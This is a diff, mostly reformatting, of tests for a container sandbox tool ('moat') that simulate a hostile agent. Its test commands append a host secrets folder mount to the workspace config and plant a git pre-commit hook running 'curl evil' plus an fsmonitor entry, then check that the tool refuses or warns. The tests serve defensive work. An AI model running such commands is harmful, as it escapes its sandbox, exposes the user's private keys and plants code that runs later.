@@ -60,7 +60,7 @@ describe('hostile container: its gateway directory', () => {
         return []; // gone, as it should be
       }
     };
-    await waitFor(() => left().length === 0, 15_000, 'the run\'s net/ emptied').catch(() => undefined);
+    await waitFor(() => left().length === 0, 15_000, "the run's net/ emptied").catch(() => undefined);
     expect(left()).toEqual([]);
     expect(() => lstatSync(join(home, 'runs', runIdOf(r.stdout), '.gw'))).toThrow();
   });
@@ -80,16 +80,27 @@ describe('hostile container: its gateway directory', () => {
     await waitFor(async () => (await text()).includes('before='), 20_000, 'the request before the restart');
     const restart = await moat(['proxy', 'restart'], { home, cwd });
     expect(restart.code, restart.stderr).toBe(0);
-    await waitFor(async () => {
-      const st = await moat(['proxy', 'status', '--json'], { home, cwd });
-      return (JSON.parse(st.stdout) as { runs?: string[] }).runs?.includes(id);
-    }, 15_000, 'the run re-registered by the new daemon');
+    await waitFor(
+      async () => {
+        const st = await moat(['proxy', 'status', '--json'], { home, cwd });
+        return (JSON.parse(st.stdout) as { runs?: string[] }).runs?.includes(id);
+      },
+      15_000,
+      'the run re-registered by the new daemon',
+    );
     const sock = lstatSync(join(home, 'runs', id, 'net', 'proxy.sock'));
     expect(sock.isSocket()).toBe(true);
     expect(sock.mode & 0o777).toBe(0o600);
     expect(() => lstatSync(join(home, 'runs', id, '.gw'))).toThrow();
     await writeFile(join(cwd, 'go'), '');
-    const out = await waitFor(async () => { const t = await text(); return t.includes('after=') ? t : undefined; }, 20_000, 'the request after the restart');
+    const out = await waitFor(
+      async () => {
+        const t = await text();
+        return t.includes('after=') ? t : undefined;
+      },
+      20_000,
+      'the request after the restart',
+    );
     expect(out).toContain('before=403');
     expect(out).toContain('SWAP=refused');
     expect(out).toContain('after=403');
@@ -97,14 +108,17 @@ describe('hostile container: its gateway directory', () => {
   });
 });
 
-describe('hostile container: the workspace\'s moat.yaml', () => {
+describe("hostile container: the workspace's moat.yaml", () => {
   it('an agent that edits moat.yaml to mount a host folder gets nothing: the next run refuses until the user approves', async () => {
     const secretDir = join(root, 'host-secrets');
     await mkdir(secretDir, { recursive: true });
     await writeFile(join(secretDir, 'id_ed25519'), 'HOST-PRIVATE-KEY\n');
     const cwd = await makeWorkspace(root, 'config');
     // The agent's run rewrites the workspace's moat.yaml (the workspace is mounted read-write).
-    const r = await moat(['run', '--approve-config', '--', 'sh', '-c', `printf 'mounts: ["${secretDir}:/stolen:ro"]\\n' >> /workspace/moat.yaml && echo EDITED`], { home, cwd });
+    const r = await moat(
+      ['run', '--approve-config', '--', 'sh', '-c', `printf 'mounts: ["${secretDir}:/stolen:ro"]\\n' >> /workspace/moat.yaml && echo EDITED`],
+      { home, cwd },
+    );
     expect(r.code, r.stderr).toBe(0);
     expect(r.stdout).toContain('EDITED');
     expect(await readFile(join(cwd, 'moat.yaml'), 'utf8')).toContain('/stolen');
@@ -132,9 +146,17 @@ describe('hostile container: the workspace\'s moat.yaml', () => {
     const quiet = await moat(['run', '--approve-config', '--', 'sh', '-c', 'echo hi > /workspace/notes.txt'], { home, cwd });
     expect(quiet.code, quiet.stderr).toBe(0);
     expect(quiet.stderr).not.toContain('programs on this machine');
-    const planted = await moat(['run', '--', 'sh', '-c', "printf '#!/bin/sh\\ncurl evil\\n' > /workspace/.git/hooks/pre-commit && printf '[core]\\n\\tfsmonitor = evil\\n' >> /workspace/.git/config"], { home, cwd });
+    const planted = await moat(
+      [
+        'run',
+        '--',
+        'sh',
+        '-c',
+        "printf '#!/bin/sh\\ncurl evil\\n' > /workspace/.git/hooks/pre-commit && printf '[core]\\n\\tfsmonitor = evil\\n' >> /workspace/.git/config",
+      ],
+      { home, cwd },
+    );
     expect(planted.code, planted.stderr).toBe(0);
     expect(planted.stderr).toContain('The run changed .git/config, .git/hooks/pre-commit in the workspace');
   });
 });
-
